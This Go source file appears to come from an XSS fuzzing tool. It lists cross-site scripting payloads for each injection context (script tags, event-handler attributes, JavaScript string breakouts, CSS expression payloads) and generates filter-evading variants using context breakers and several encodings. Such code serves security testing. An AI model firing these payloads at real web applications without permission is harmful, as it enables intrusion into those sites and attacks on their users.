package fuzz

import (
	"github.com/rs/zerolog/log"

	"github.com/pyneda/xsslab/pkg/encoding"
)

const fallbackPayload = "<script>alert(1)</script>"

var defaultPayloads = map[InjectionContext][]string{
	HTMLTagContent: {
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)>",
		`<iframe src="javascript:alert(1)">`,
	},
	HTMLAttributeValue: {
		`" onmouseover=alert(1) "`,
		"' onclick=alert(1) '",
		`" autofocus onfocus=alert(1) "`,
		`"><script>alert(1)</script>`,
	},
	JSStringSingle: {
		"';alert(1);//",
		`\';alert(1);//`,
		"'+alert(1)+'",
		"'-alert(1)-'",
	},
	JSStringDouble: {
		`";alert(1);//`,
		`\";alert(1);//`,
		`"+alert(1)+"`,
		`"-alert(1)-"`,
	},
	CSSPropertyValue: {
		"expression(alert(1))",
		`url("javascript:alert(1)")`,
		`}body{background:url("javascript:alert(1)")`,
	},
	URLQuery: {
		"javascript:alert(1)",
		`"><script>alert(1)</script>`,
		"';alert(1);//",
	},
}

// DefaultPayloads returns the starting payloads for a context.
func DefaultPayloads(ctx InjectionContext) []string {
	if p, ok := defaultPayloads[ctx]; ok {
		return append([]string(nil), p...)
	}
	return []string{fallbackPayload}
}

// contextBreakers close or escape the surrounding syntax of a context.
var contextBreakers = map[InjectionContext][]string{
	HTMLTagContent:     {"<", ">", "</", "/>"},
	HTMLAttributeValue: {`"`, "'", " ", ">"},
	JSStringSingle:     {"'", `\`, "\n"},
	JSStringDouble:     {`"`, `\`, "\n"},
	JSTemplate:         {"`", "${", "}"},
	CSSPropertyValue:   {";", "}", "/*", "*/"},
	URLQuery:           {"&", "#", " ", "%00"},
	JSONValue:          {`"`, `\`, "\n", "}"},
}

// Encoding names accepted by EncodePayload.
const (
	EncodingNone        = "none"
	EncodingHTML        = "html"
	EncodingURL         = "url"
	EncodingDoubleURL   = "double_url"
	EncodingBase64      = "base64"
	EncodingHex         = "hex"
	EncodingUnicode     = "unicode"
	EncodingHTMLDecimal = "html_decimal"
	EncodingHTMLHex     = "html_hex"
)

var encoders = map[string]func(string) string{
	EncodingNone:        func(s string) string { return s },
	EncodingHTML:        htmlEscape,
	EncodingURL:         urlQuote,
	EncodingDoubleURL:   func(s string) string { return urlQuote(urlQuote(s)) },
	EncodingBase64:      func(s string) string { return encoding.MustEncode(encoding.Base64Raw, s) },
	EncodingHex:         func(s string) string { return encoding.MustEncode(encoding.URLAll, s) },
	EncodingUnicode:     func(s string) string { return encoding.MustEncode(encoding.UnicodeAll, s) },
	EncodingHTMLDecimal: func(s string) string { return encoding.MustEncode(encoding.HTMLDecimalAll, s) },
	EncodingHTMLHex:     func(s string) string { return encoding.MustEncode(encoding.HTMLHexAll, s) },
}

// Encodings lists the names accepted by EncodePayload.
func Encodings() []string {
	return []string{
		EncodingNone, EncodingHTML, EncodingURL, EncodingDoubleURL, EncodingBase64,
		EncodingHex, EncodingUnicode, EncodingHTMLDecimal, EncodingHTMLHex,
	}
}

// EncodePayload applies a named encoding. Unknown names report false.
func EncodePayload(name, payload string) (string, bool) {
	enc, ok := encoders[name]
	if !ok {
		return payload, false
	}
	return enc(payload), true
}

// candidate is a generated payload plus how it was derived.
type candidate struct {
	payload   string
	encoding  string
	mutations []string
}

// contextVariants wraps payload in the context breakers, encodes the first
// variants when the fingerprint requires it and drops disallowed ones.
func contextVariants(payload string, fp ContextFingerprint) []candidate {
	variants := []candidate{{payload: payload, encoding: EncodingNone}}
	for _, b := range contextBreakers[fp.Context] {
		variants = append(variants,
			candidate{payload: b + payload, encoding: EncodingNone},
			candidate{payload: payload + b, encoding: EncodingNone},
			candidate{payload: b + payload + b, encoding: EncodingNone},
		)
	}

	if fp.EncodingRequired != "" {
		if enc, ok := encoders[fp.EncodingRequired]; ok {
			n := min(5, len(variants))
			for _, v := range variants[:n] {
				variants = append(variants, candidate{payload: enc(v.payload), encoding: fp.EncodingRequired})
			}
		}
	}

	filtered := variants[:0]
	for _, v := range variants {
		if fp.Allows(v.payload) {
			filtered = append(filtered, v)
		}
	}
	return filtered
}

// generate builds the candidate list in order without duplicates.
func (f *ContextAwareFuzzer) generate(fp ContextFingerprint, base []string) []candidate {
	if len(base) == 0 {
		base = DefaultPayloads(fp.Context)
	}

	var all []candidate
	for _, b := range base {
		variants := contextVariants(b, fp)
		all = append(all, variants...)

		n := min(f.mutationLimit, len(variants))
		for _, v := range variants[:n] {
			all = append(all, f.mutate(v, fp)...)
		}
	}

	seen := make(map[string]struct{}, len(all))
	unique := make([]candidate, 0, len(all))
	for _, c := range all {
		if _, ok := seen[c.payload]; ok {
			continue
		}
		seen[c.payload] = struct{}{}
		unique = append(unique, c)
	}

	log.Info().Str("session", f.sessionID).Str("context", string(fp.Context)).Int("payloads", len(unique)).Msg("Generated context payloads")
	return unique
}

// GeneratePayloads returns context adapted payloads for fp. When base is
// empty the context defaults are used.
func (f *ContextAwareFuzzer) GeneratePayloads(fp ContextFingerprint, base []string) []string {
	candidates := f.generate(fp, base)
	out := make([]string, len(candidates))
	for i, c := range candidates {
		out[i] = c.payload
	}
	return out
}
